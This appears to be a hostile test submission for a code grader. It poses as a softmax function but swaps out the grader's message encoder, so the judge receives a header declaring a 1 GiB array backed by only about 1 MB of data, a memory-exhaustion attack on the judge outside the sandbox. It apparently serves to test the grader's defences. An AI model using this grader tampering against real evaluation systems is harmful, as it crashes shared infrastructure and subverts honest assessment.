"""HOSTILE-ENTRY protocol_bomb: in this process, the grader's ``protocol.encode`` is replaced so
that softmax's reply to the judge becomes a message of about 1 MB whose header declares a
float64 array of 1 GiB (2**27 elements) at its start. A judge that allocates what a header
declares before it checks that the message holds it lets student code take the judge's
memory, outside every limit of the sandbox. softmax itself returns a marker, not an array."""

import json as _json
import struct as _struct

import grader.protocol as _plain_data

_MARKER = "protocol bomb"
_COUNT = 2**27


def _bomb():
    header = _json.dumps(
        {
            "tree": {"ok": True, "value": {"$array": "a0"}, "modified": {"$list": []}},
            "arrays": {"a0": ["<f8", [_COUNT], 0, _COUNT * 8]},
        }
    ).encode()
    return _struct.pack(">I", len(header)) + header + bytes(2**20)


_original_encode = _plain_data.encode


def _encode(message):
    if isinstance(message, dict) and isinstance(message.get("value"), str) and (
        message["value"] == _MARKER
    ):
        return _bomb()
    return _original_encode(message)


_plain_data.encode = _encode


def softmax(x, axis=-1):
    return _MARKER
